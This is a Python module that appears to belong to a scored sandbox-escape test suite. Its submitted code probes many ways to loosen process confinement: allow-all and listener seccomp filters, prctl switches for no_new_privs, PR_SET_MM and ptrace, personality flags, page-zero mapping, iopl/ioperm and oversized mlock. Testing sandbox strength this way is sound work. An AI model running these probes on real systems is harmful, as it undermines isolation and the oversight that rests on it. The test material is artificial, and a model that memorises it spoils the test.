"""Turn knobs of the own process that would loosen the ties: prctl, another filter, personality, segments.

Success: a knob turns that makes something possible which was not, which earns the points of `double`.
"""

from attacks.escaping.ways import HEAD

SUBMISSION = (
    HEAD
    + r'''
import struct

PRCTL, SECCOMP, PERSONALITY, MODIFY_LDT, IOPL, IOPERM, SOCKET = 157, 317, 135, 154, 172, 173, 41
LANDLOCK_RESTRICT = 446


def filter_that_allows(length=1):
    """The address of a program that lets everything pass."""
    code = ctypes.create_string_buffer(struct.pack("<HBBI", 6, 0, 0, 0x7FFF0000) * length)
    program = ctypes.create_string_buffer(struct.pack("<HxxxxxxQ", length, ctypes.addressof(code)))
    KEPT.extend([code, program])
    return program


KEPT = []


def a_filter_that_allows_everything():
    """Filters only add up: a new one must not undo the old one."""
    try:
        kernel(PRCTL, 22, 2, filter_that_allows(), 0, 0)
    except OSError:
        kernel(SECCOMP, 1, 0, filter_that_allows())
    return kernel(SOCKET, 1, 1, 0) + 1


def a_filter_with_a_listener():
    """It would decide itself what its calls give, and hold the worker for ever."""
    return each(lambda flags: kernel(SECCOMP, 1, flags, filter_that_allows()), (8, 8 | 16, 8 | 32))


def filter_switched_off():
    return kernel(PRCTL, 22, 0, 0, 0, 0) == 0


def new_privileges():
    return kernel(PRCTL, 39, 0, 0, 0, 0) != 1


def memory_map():
    """PR_SET_MM moves what the kernel holds for the start and end of code, data and arguments."""
    return each(lambda what: kernel(PRCTL, 35, what, 4096, 0, 0) + 1, (1, 3, 8, 13, 14))


def parent_for_orphans():
    """With this, processes that it left behind would come back to it; there must be none to come."""
    kernel(PRCTL, 36, 1, 0, 0, 0)
    number = os.fork()
    if number == 0:
        os._exit(0)
    return number


def traced_by_anybody():
    return kernel(PRCTL, 0x59616D61, -1, 0, 0, 0) == 0


def flushes_disks():
    return kernel(PRCTL, 57, 1, 0, 0, 0) == 0


def shares_cores():
    return each(lambda pid: kernel(PRCTL, 62, 1, pid, 0, 0) + 1, [p for p in range(2, 100) if p != os.getpid()])


def other_personality():
    """Addresses that are easy to guess; files read as executable; page zero."""
    return each(lambda flag: kernel(PERSONALITY, flag) + 1, (0x0040000, 0x0400000, 0x0100000))


def page_zero():
    LIBC.mmap.restype = ctypes.c_long
    return LIBC.mmap(ctypes.c_void_p(0), ctypes.c_size_t(4096), 3, 0x32, -1, ctypes.c_long(0)) == 0


def segments_and_ports():
    calls = {"ldt": (MODIFY_LDT, 1, bytes(16), 16), "iopl": (IOPL, 3), "ioperm": (IOPERM, 0x80, 1, 1)}
    return each(lambda name: kernel(*calls[name]) + 1, calls)


def unlocked_memory():
    """More locked memory than is allowed cannot be pushed out for others."""
    room = ctypes.create_string_buffer(100 * 2**20)
    return LIBC.mlock(room, ctypes.c_size_t(len(room))) == 0


WAYS = [a_filter_that_allows_everything, a_filter_with_a_listener, filter_switched_off, new_privileges, memory_map,
        parent_for_orphans, traced_by_anybody, flushes_disks, shares_cores, other_personality, page_zero,
        segments_and_ports, unlocked_memory]
'''
)
